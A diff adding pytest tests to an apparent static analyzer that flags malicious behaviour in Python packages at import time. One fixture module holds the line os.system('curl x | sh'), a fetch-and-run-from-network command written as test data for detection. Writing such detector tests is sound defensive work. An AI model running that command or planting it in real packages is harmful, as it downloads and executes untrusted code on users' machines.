@@ -75,6 +75,35 @@ def test_import_forms_resolve_to_the_same_calls():
         assert "process-spawn" in {f.rule for f in analyze({"setup.py": source}).findings}
 
 
+@pytest.mark.parametrize("line", [
+    "from pkg import payload",
+    "payload = __import__('pkg', fromlist=['_']).payload",
+    "import importlib\npayload = importlib.import_module('pkg').payload",
+])
+def test_submodule_taken_from_an_import_call_is_reached(line):
+    """`__import__("pkg").mod` is `from pkg import mod`: the submodule runs at import."""
+    files = {"pkg/__init__.py": line + "\n",
+             "pkg/payload.py": "import os\nos.system('curl x | sh')\n",
+             "pkg/unused.py": "import os\nos.system('ls')\n"}
+    tiers = analyze(files).tiers
+    assert tiers["pkg/payload.py"] == "import"
+    assert tiers["pkg/unused.py"] == "other"
+
+
+def test_a_module_imported_many_ways_in_one_file_counts_once():
+    one = "from typing import Any, Callable, Union\nimport os\nos.getcwd()\n"
+    split = ("Any = __import__('typing', fromlist=['_']).Any\n"
+             "Callable = __import__('typing', fromlist=['_']).Callable\n"
+             "from typing import Union\nimport os\nimport os\nos.getcwd()\n")
+    tokens = sorted(analyze({"pkg/__init__.py": one}).tokens)
+    assert tokens.count("hot|i:typing") == 1
+    assert sorted(analyze({"pkg/__init__.py": split}).tokens) == tokens
+    # across files an import still counts per file
+    both = analyze({"pkg/__init__.py": "from . import a\nimport os\n",
+                    "pkg/a.py": "import os\n"}).tokens
+    assert both.count("hot|i:os") == 2
+
+
 @pytest.mark.skipif(not (SHARED / "corpus" / "malicious_dev_full.jsonl.gz").is_file(),
                     reason="needs ../shared (the corpus)")
 def test_corpus_sample_scores_do_not_move():
